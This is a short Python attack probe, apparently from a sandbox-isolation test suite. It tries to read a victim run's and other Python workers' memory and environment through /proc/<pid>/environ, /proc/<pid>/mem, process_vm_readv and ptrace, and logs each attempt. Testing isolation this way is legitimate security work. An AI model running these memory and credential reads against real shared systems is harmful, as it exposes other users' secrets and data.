# Attack 3: read the victim run's memory and environment, by its host pid, through /proc/<pid>/mem,
# /proc/<pid>/environ, process_vm_readv and ptrace; and the same on every other Python process of
# the server (workers, fork servers, spares), whose memory has held other runs' payloads.


def execute(ctx):
    rep = Report(ctx)
    me = os.getpid()
    victim = int(ctx.input["victim_pid"])
    others = [int(p) for p in ctx.input["python_pids"] if int(p) not in (me, victim)]
    for pid, limit in [(victim, 256 << 20)] + [(p, 32 << 20) for p in others]:
        base = "/proc/%d" % pid
        rep.run("stat " + base, lambda base=base: "exists, uid %d" % os.stat(base).st_uid)
        rep.run("read %s/environ" % base, lambda base=base: summary(read_file(base + "/environ")))
        rep.run("read %s/maps" % base, lambda base=base: "read %d bytes" % len(read_file(base + "/maps")))
        rep.run("read %s/mem" % base, lambda pid=pid, limit=limit: scan_mem(pid, limit))
        rep.child("process_vm_readv(%d)" % pid, lambda pid=pid, limit=limit: scan_vm(pid, limit))
        rep.child("ptrace(PTRACE_ATTACH, %d)" % pid, lambda pid=pid: ptrace_attach(pid))
        rep.run("kill(%d, 0)" % pid, lambda pid=pid: os.kill(pid, 0) or "may signal it")
    return {"attempts": rep.attempts}
